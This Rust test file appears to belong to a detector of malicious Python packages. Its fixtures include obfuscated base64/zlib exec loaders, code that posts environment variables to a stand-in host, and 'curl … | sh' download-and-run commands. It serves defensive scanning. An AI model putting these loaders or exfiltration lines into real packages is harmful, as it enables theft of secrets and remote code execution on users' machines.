use super::*;
use crate::inspect::Role;

fn analyse(src: &str) -> PyFile {
    analyse_source("pkg/setup.py", Role::SetupScript, src.to_string(), 0)
}

fn call_names(f: &PyFile) -> Vec<&str> {
    f.calls.iter().map(|c| c.name.as_str()).collect()
}

#[test]
fn resolves_aliases() {
    let f = analyse(
        "import base64 as b\nfrom os import system as s\nimport urllib.request\nx = __import__('os')\n\
         s('id')\nb.b64decode('aGk=')\nurllib.request.urlopen('http://x')\nx.popen('ls')\n\
         getattr(x, 'sys' + 'tem')('id')\nimport builtins\nbuiltins.exec('1')\n",
    );
    let names = call_names(&f);
    for want in [
        "os.system",
        "base64.b64decode",
        "urllib.request.urlopen",
        "os.popen",
        "exec",
    ] {
        assert!(names.contains(&want), "{want} not in {names:?}");
    }
    assert_eq!(names.iter().filter(|n| **n == "os.system").count(), 2, "{names:?}");
    // `eval` of a string built in pieces yields the callable it names.
    let f = analyse(
        "import os
f = eval('o' + 's.sy' + 'stem')
f('start calc')
",
    );
    assert!(call_names(&f).contains(&"os.system"), "{:?}", call_names(&f));
}

#[test]
fn decodes_nested_payloads() {
    // exec(zlib.decompress(base64.b64decode(...))) of code that reads the environment.
    let inner = "import os, requests\nrequests.post('http://198.51.100.7/x', data=dict(os.environ))\n";
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut z, inner.as_bytes()).unwrap();
    use base64::Engine;
    let blob = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
    let f = analyse(&format!(
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"
    ));
    assert_eq!(f.payloads.len(), 1, "{:?}", f.payloads);
    let p = &f.payloads[0];
    assert_eq!(p.sink, Sink::Exec);
    assert_eq!(p.steps, vec!["base64", "zlib"]);
    let code = p.code.as_ref().expect("decoded text analysed");
    assert!(call_names(code).contains(&"requests.post"));
    assert!(code.strings.iter().any(|s| s.value.contains("198.51.100.7")));
}

#[test]
fn folds_obfuscated_strings() {
    let f = analyse(
        "x = ''.join([chr(c) for c in [104, 116, 116, 112]])\ny = 'moc.elpmaxe//:sptth'[::-1]\n\
         z = bytes.fromhex('6576696c').decode()\nw = 'ht' + 'tp://' + 'a.b'\n",
    );
    let lits: Vec<&str> = f.strings.iter().map(|l| l.value.as_str()).collect();
    assert!(lits.contains(&"http://a.b"), "{lits:?}");
    let scope_src = "x = ''.join([chr(c) for c in [104, 105]])\nexec(x)\n";
    let g = analyse(scope_src);
    assert_eq!(g.payloads.len(), 0, "two bytes is below the payload floor");
    let h = analyse("code = 'im' + 'port os; os.system(\"id\")'\nexec(code)\n");
    assert_eq!(h.payloads.len(), 1);
    assert!(call_names(h.payloads[0].code.as_ref().unwrap()).contains(&"os.system"));
}

#[test]
fn tolerates_python2_and_garbage() {
    let f = analyse("import os\nprint 'hello'\nos.system('curl http://x | sh')\n");
    assert!(f.syntax_errors > 0);
    assert!(call_names(&f).contains(&"os.system"));
    let g = analyse("\u{0}\u{1}\u{2} def ((((( ))) ::: \n");
    assert!(g.syntax_errors > 0);
}

#[test]
fn scopes_and_stages() {
    let f = analyse_source(
        "pkg/mod.py",
        Role::Module,
        "import os\nos.getcwd()\ndef f():\n    os.system('x')\n".to_string(),
        0,
    );
    let top = f.calls.iter().find(|c| c.name == "os.getcwd").unwrap();
    assert_eq!((top.stage, top.scope), (Stage::Import, 0));
    let inner = f.calls.iter().find(|c| c.name == "os.system").unwrap();
    assert_eq!(inner.stage, Stage::Call);
    assert_ne!(inner.scope, 0);
}

#[test]
fn deep_nesting_does_not_overflow() {
    let src = format!("x = {}1{}\n", "(".repeat(5000), ")".repeat(5000));
    let handle = std::thread::Builder::new()
        .stack_size(crate::inspect::STACK_SIZE)
        .spawn(move || analyse(&src).syntax_errors)
        .unwrap();
    handle.join().expect("no stack overflow");
}

#[test]
fn self_referential_constants_terminate() {
    let f = analyse("x = getattr(o, x)(1)\ny = getattr(o, y)\nz = z + z\nexec(x + y + z)\n");
    assert!(f.payloads.is_empty());
}

#[test]
fn functions_called_or_passed_at_module_level_run_on_import() {
    let src = "import socket, threading\ndef send():\n    socket.gethostname()\ndef unused():\n    socket.getfqdn()\nthreading.Thread(target=send).start()\n";
    let f = analyse_source("pkg/__init__.py", Role::PackageInit, src.to_string(), 0);
    let stage = |n: &str| f.calls.iter().find(|c| c.name == n).unwrap().stage;
    assert_eq!(stage("socket.gethostname"), Stage::Import);
    assert_eq!(stage("socket.getfqdn"), Stage::Call);
    // Code under `if __name__ == "__main__":` is a script entry point, not import-time code.
    let src = "import os\ndef main():\n    os.getcwd()\nif __name__ == '__main__':\n    main()\n";
    let f = analyse_source("pkg/cli.py", Role::Module, src.to_string(), 0);
    assert_eq!(
        f.calls.iter().find(|c| c.name == "os.getcwd").unwrap().stage,
        Stage::Call
    );
    // A class body wrapping a method (`_send = staticmethod(_send)`) does not call it.
    let src = "import socket\nclass C:\n    def _send(sock, data):\n        sock.send(data)\n    _send = staticmethod(_send)\n";
    let f = analyse_source("pkg/__init__.py", Role::PackageInit, src.to_string(), 0);
    assert_eq!(
        f.calls.iter().find(|c| c.name.ends_with(".send")).unwrap().stage,
        Stage::Call
    );
}

#[test]
fn chr_joins_count_as_encoding_and_modules_resolve_without_imports() {
    let codes: Vec<String> = "import os\nos.system('id')\n".bytes().map(|b| b.to_string()).collect();
    let f = analyse(&format!("exec(''.join(map(chr, [{}])))\n", codes.join(",")));
    assert_eq!(f.payloads.len(), 1);
    assert_eq!(f.payloads[0].steps, vec!["chr"]);
    // `requests` used without an import (malware that relies on it being installed).
    let g = analyse("def app():\n    requests.get('http://x')\n");
    assert!(call_names(&g).contains(&"requests.get"));
}

#[test]
fn resolves_namespace_dicts() {
    // Issue 11: `vars(__builtins__)['eval']`, `os.__dict__['system']`, `vars(os)['popen']`.
    let f =
        analyse("import os\nvars(__builtins__)['eval']('1')\nos.__dict__['system']('id')\nvars(os)['popen']('ls')\n");
    let names = call_names(&f);
    for want in ["eval", "os.system", "os.popen"] {
        assert!(names.contains(&want), "{want} not in {names:?}");
    }
}

#[test]
fn follows_reassignments_through_decoders() {
    // Issue 11: `x = b64decode(...); exec(x)` and `Z=b64(Z); Z=zlib(Z); exec(Z)`.
    let inner = "import os\nos.system('curl http://198.51.100.7/x | sh')\n";
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD.encode(inner);
    let f = analyse(&format!("import base64\nx = base64.b64decode('{b64}')\nexec(x)\n"));
    assert!(
        f.payloads.iter().any(|p| p.sink == Sink::Exec && p.code.is_some()),
        "{:?}",
        f.payloads
    );
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut z, inner.as_bytes()).unwrap();
    let blob = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
    let f = analyse(&format!(
        "import base64, zlib\nZ = '{blob}'\nZ = base64.b64decode(Z)\nZ = zlib.decompress(Z)\nexec(Z)\n"
    ));
    let p = f.payloads.iter().find(|p| p.sink == Sink::Exec).expect("exec payload");
    assert_eq!(p.steps, vec!["base64", "zlib"]);
    assert!(call_names(p.code.as_ref().unwrap()).contains(&"os.system"));
}

#[test]
fn wrapper_functions_are_sinks() {
    // Issue 11: one level of local wrapper functions.
    let f = analyse(
        "import subprocess, requests\ndef run(c):\n    return subprocess.Popen(c, shell=True)\n\
         def send(url, data):\n    requests.post(url, data=data)\nrun('curl http://198.51.100.7/x | sh')\nsend('http://198.51.100.7/c', D)\n",
    );
    let run = f.calls.iter().find(|c| c.line == 6).expect("call on line 6");
    assert_eq!(run.name, "subprocess.Popen");
    assert!(run.arg_strs.iter().any(|a| a.contains("| sh")), "{run:?}");
    assert!(f.calls.iter().any(|c| c.line == 7 && c.name == "requests.post"));
    // A request object built from the parameter and opened is a send of it.
    let f = analyse(
        "import json, urllib.request\ndef post(url, data):\n    body = json.dumps(data).encode()\n    req = urllib.request.Request(url, data=body, method='POST')\n    with urllib.request.urlopen(req) as r:\n        return r.read()\npost('http://198.51.100.7:3000/r', D)\n",
    );
    let post = f.calls.iter().find(|c| c.line == 7).expect("call on line 7");
    assert_eq!(post.name, "urllib.request.urlopen");
    assert!(post.arg_strs.iter().any(|a| a.contains("198.51.100.7")), "{post:?}");
    // A function that only uses its parameter for something else is no wrapper.
    let f = analyse("import subprocess\ndef show(c):\n    print(c)\n    subprocess.run(['ls'])\nshow('x')\n");
    assert!(
        !f.calls.iter().any(|c| c.line == 5 && c.name == "subprocess.run"),
        "{:?}",
        call_names(&f)
    );
}

#[test]
fn lexical_scan_of_a_broken_payload_is_bounded() {
    // A decoded payload that does not parse: calls near its start are seen,
    // calls past its first 256 KiB are not; a file of the artifact is read whole.
    let filler = "x = (\n".to_string() + &"# data\n".repeat(40_000);
    let src = format!("os.system('a')\n{filler}os.popen('b')\n");
    let names = |depth: u8| -> Vec<String> {
        // Without the fallback the broken source yields no facts; then the lexical scan alone.
        let mut file = analyse_source_with("pkg/x.py", Role::Module, src.clone(), depth, false);
        assert!(file.syntax_errors > 0 && file.calls.is_empty());
        lexical::scan(&mut file);
        file.calls.into_iter().map(|c| c.name).collect()
    };
    let nested = names(1);
    assert!(nested.contains(&"os.system".to_string()), "{nested:?}");
    assert!(!nested.contains(&"os.popen".to_string()), "{nested:?}");
    assert!(names(0).contains(&"os.popen".to_string()));
}

#[test]
fn lexical_scan_skips_escapes_and_reads_imports_within_its_budget() {
    // The repr of a binary: `\x00(` is an escape and a byte, not a call of `x00`;
    // the real call on the line is still seen.
    let src = "f.write(b'MZ\\x90\\x00(\\x03(\\xff@' + (\n".to_string();
    let mut file = analyse_source_with("pkg/x.py", Role::Module, src, 1, false);
    lexical::scan(&mut file);
    let names: Vec<&str> = file.calls.iter().map(|c| c.name.as_str()).collect();
    assert_eq!(names, ["f.write"], "{names:?}");
    // An import past a payload's first 256 KiB names nothing for the calls before it.
    let src = format!("s.system('x')\nx = (\n{}import os as s\n", "# data\n".repeat(40_000));
    let mut file = analyse_source_with("pkg/x.py", Role::Module, src.clone(), 1, false);
    lexical::scan(&mut file);
    assert!(
        file.calls.iter().any(|c| c.name == "s.system"),
        "{:?}",
        call_names(&file)
    );
    let mut file = analyse_source_with("pkg/x.py", Role::Module, src, 0, false);
    lexical::scan(&mut file);
    assert!(
        file.calls.iter().any(|c| c.name == "os.system"),
        "{:?}",
        call_names(&file)
    );
}
